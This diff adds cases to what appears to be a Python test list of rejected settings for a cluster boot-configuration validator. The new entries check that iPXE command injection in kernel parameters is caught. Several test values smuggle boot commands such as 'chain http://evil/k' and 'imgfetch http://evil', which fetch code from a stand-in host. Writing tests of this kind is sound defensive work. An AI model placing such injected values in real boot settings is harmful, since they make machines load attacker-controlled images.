@@ -66,6 +66,8 @@ BAD_CHANGES: list[tuple[dict[str, object], list[str], str]] = [
     ({"partition": "ok", "expected_gpus": "eight"}, [], "expected_gpus"),
     ({"expected_gpus": 65}, [], "expected_gpus"),
     ({"kernel_params": "quiet\nimgfetch http://evil"}, [], "kernel_params"),
+    ({"kernel_params": "quiet && chain http://evil/k"}, [], "iPXE would read it as a command"),
+    ({"kernel_params": "quiet ${root-path}"}, [], "iPXE would read it as a command"),
     ({"partition": "two words"}, [], "partition"),
     ({"sync_target": None}, [], "sync_target"),  # a key without a "none"
     ({"partition": "ok"}, ["nope"], "unknown setting 'nope'"),
